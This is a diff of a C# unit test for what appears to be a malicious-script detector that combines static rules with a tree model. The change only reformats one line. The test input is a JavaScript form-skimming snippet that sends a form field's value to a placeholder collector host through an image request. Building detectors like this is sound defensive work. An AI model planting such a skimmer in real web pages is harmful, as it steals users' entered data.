@@ -78,7 +78,8 @@ public sealed class TreeModelTests
         const string Source = "document.forms[0].addEventListener('submit', function () { new Image().src = 'https://collector.invalid/a?' + document.getElementById('street').value; });";
         var rules = new ScriptJudge([new StaticLayer()]).Judge(new ScriptToJudge { Source = Source });
 
-        var both = new ScriptJudge([new StaticLayer(), new ModelLayer(new TreeModel([Tree.Of(1, [], [3])], 1, 0), "test")]).Judge(new ScriptToJudge { Source = Source });
+        var both = new ScriptJudge([new StaticLayer(), new ModelLayer(new TreeModel([Tree.Of(1, [], [3])], 1, 0), "test")])
+            .Judge(new ScriptToJudge { Source = Source });
 
         Assert.True(both.Score < rules.Score, $"{both.Score} is not below {rules.Score}");
         Assert.Equal(rules.Category, both.Category);
